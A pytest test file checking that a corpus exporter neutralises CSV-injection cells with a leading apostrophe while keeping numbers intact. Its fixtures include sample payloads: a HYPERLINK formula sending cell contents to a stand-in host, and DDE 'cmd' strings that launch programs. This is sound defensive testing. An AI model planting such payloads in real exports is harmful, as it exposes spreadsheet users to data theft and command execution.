"""CSV cells a spreadsheet would run as formulas are neutralized (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from corpus.export import iter_format, neutralize_cell

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_start_with_an_apostrophe(cell):
    assert neutralize_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12", "+5", "-1.234,5", "Phấn đấu 100%", "", "a=b"])
def test_other_cells_are_kept(cell):
    assert neutralize_cell(cell) == cell


def test_no_csv_cell_starts_a_formula(store, make_record):
    text = "Phấn đấu kết nạp 500 đảng viên mới trước ngày 15/12/2025."
    record = make_record(
        text, sha="c" * 64,
        targets=[{"measure": "=HYPERLINK(\"http://x.example\")", "comparator": "gte", "value": -3, "unit_of_measure": "%",
                  "evidence": "+SUM(A1:A2)", "start": 0, "end": 10}],
        deadlines=[{"task": "@SUM(1+1)", "due": "2025-12-15", "evidence": "-1+cmd|' /C calc'!A0", "start": 20, "end": 40}],
    )
    store.add(record)
    for kind in ("targets", "deadlines"):
        out = "".join(iter_format(kind, "csv", store.rows(kind)))
        rows = list(csv.reader(io.StringIO(out[1:])))
        cells = [c for row in rows[1:] for c in row]
        assert cells and not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
        assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in cells)
    (target,) = list(csv.DictReader(io.StringIO("".join(iter_format("targets", "csv", store.rows("targets")))[1:])))
    assert target["value"] == "-3" and target["evidence"] == "'+SUM(A1:A2)"
